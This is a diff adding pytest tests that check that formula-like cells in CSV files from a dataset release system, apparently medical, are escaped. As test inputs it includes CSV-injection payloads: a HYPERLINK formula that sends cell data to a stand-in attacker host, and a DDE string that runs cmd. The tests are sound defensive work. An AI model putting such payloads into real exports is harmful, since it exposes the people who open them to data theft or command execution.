@@ -329,3 +329,56 @@ def test_unknown_releases_are_not_found(
         with pytest.raises(CoordinatorError) as caught:
             call()
         assert caught.value.code == "release_not_found"
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://x.test/?"&A1,"open")', '\'=HYPERLINK("http://x.test/?"&A1,"open")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-1.5", "-1.5"),
+        ("+3e2", "+3e2"),
+        ("-.5", "-.5"),
+        ("positive", "positive"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(cell: str, written: str) -> None:
+    assert releases.spreadsheet_safe(cell) == written
+
+
+def test_formula_values_from_a_site_are_inert_in_the_csvs_and_kept_in_the_manifest(
+    db: Database, store: FilesystemStore, settings: CoordinatorSettings
+) -> None:
+    # Prepare: a site's label and clinical values that a spreadsheet would run.
+    formula = '=HYPERLINK("http://attacker.test/?"&B2,"Click")'
+    spec = generate(1, start=500)[0]
+    spec.labels = {("ricord", "covid"): formula}
+    spec.clinical = {"sex": "@SUM(1+1)*cmd|' /C calc'!A0", "age": "-3"}
+    register(db, [spec], store)
+
+    # Execute
+    made = releases.create(db, store, settings, "formulas", ExamFilters(), "olga")
+
+    # Assert: no cell of either CSV starts a formula; the manifest has the values as sent.
+    root = settings.releases_dir / "formulas"
+    labels = rows((root / "labels.csv").read_bytes())
+    clinical = rows((root / "clinical.csv").read_bytes())
+    for row in labels[1:] + clinical[1:]:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or cell == "-3", cell
+    assert ["'" + formula] == [row[4] for row in labels[1:]]
+    assert {row[2]: row[3] for row in clinical[1:]} == {
+        "sex": "'@SUM(1+1)*cmd|' /C calc'!A0",
+        "age": "-3",
+    }
+    manifest = ReleaseManifest.model_validate_json((root / "manifest.json").read_bytes())
+    assert made.exam_count == 1
+    assert manifest.exams[0].labels[0].value == formula
+    assert manifest.exams[0].clinical == spec.clinical
